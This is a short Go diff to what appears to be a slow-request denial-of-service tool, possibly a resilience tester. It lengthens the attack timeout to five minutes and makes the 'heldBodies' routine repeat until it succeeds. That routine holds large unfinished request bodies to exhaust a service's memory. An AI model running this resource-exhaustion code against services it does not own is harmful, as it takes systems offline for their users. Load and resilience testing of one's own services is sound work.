@@ -12,8 +12,9 @@ import (
 	"time"
 )
 
-// patience is how long a connection may live that never completes a request.
-const patience = time.Minute
+// patience is how long a connection may live that never completes a request, and how long
+// an attack goes on for an answer that it has not got. It only ends what hangs.
+const patience = 5 * time.Minute
 
 // dial opens a connection, nil if that fails.
 func (a *attacker) dial(ctx context.Context) net.Conn {
@@ -93,6 +94,12 @@ func slowBodies(ctx context.Context, a *attacker) {
 // heldBodies sends as many large bodies as it can, two as each of many users, all
 // but their last bytes: memory that is taken until the service gives them up.
 func heldBodies(ctx context.Context, a *attacker) {
+	for holdBodies(ctx, a); !a.content(); {
+		holdBodies(ctx, a)
+	}
+}
+
+func holdBodies(ctx context.Context, a *attacker) {
 	var all sync.WaitGroup
 	defer all.Wait()
 	for i := range 3 * workers {
